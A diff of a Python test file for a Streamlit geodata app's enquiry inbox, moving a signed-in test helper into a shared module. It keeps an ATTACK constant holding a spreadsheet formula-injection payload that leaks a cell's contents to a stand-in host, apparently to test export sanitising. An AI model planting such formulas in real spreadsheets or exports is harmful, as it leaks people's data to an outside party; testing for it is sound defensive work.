@@ -9,7 +9,6 @@ page runs alone, in English, on a GeoPackage store of its own, and once on PostG
 
 from __future__ import annotations
 
-import time
 from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -17,21 +16,18 @@ from pathlib import Path
 import pandas as pd
 import pytest
 import streamlit as st
+from appkit import STAFF_OFFICER as OFFICER
 from appkit import plain, shown
+from appkit import signed_in_staff as signed_in
 from streamlit.testing.v1 import AppTest
 
 from heza_geo import i18n
-from heza_geo.config import REPO_ROOT
 from heza_geo.enquiries import RETENTION, Enquiry
 from heza_geo.store import auth
 from heza_geo.store.gpkg import GeoPackageStore
 from heza_geo.store.sql import SqlStore
 from heza_geo.ui import inbox
 
-PROBE = REPO_ROOT / "tests" / "apps" / "data_management_probe.py"
-OFFICER = "lan@heza.example"
-SECRETS = {"auth": {"redirect_uri": "http://localhost/oauth2callback", "cookie_secret": "test-only",
-                    "client_id": "test", "client_secret": "test", "server_metadata_url": "http://localhost/none"}}
 #: a month ago (the inbox deletes enquiries past their retention when it opens: a fixed date would age out)
 T0 = datetime.now(UTC).replace(hour=9, minute=0, second=0, microsecond=0) - timedelta(days=30)
 ATTACK = '=HYPERLINK("http://evil.example/?leak="&A2,"site plan")'
@@ -71,15 +67,6 @@ def store(tiny_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> It
     yield seed(made)
     st.cache_resource.clear()
 
-
-def signed_in() -> AppTest:
-    at = AppTest.from_file(str(PROBE), default_timeout=120)
-    at.secrets.update(SECRETS)
-    at.user = {"is_logged_in": True, "email": OFFICER, "iat": time.time()}
-    at.run()
-    assert not at.exception, [e.message for e in at.exception]
-    assert any(OFFICER in plain(c.value) for c in at.caption)  # "Signed in as …"
-    return at
 
 
 def tab_labels(at: AppTest) -> list[str]:
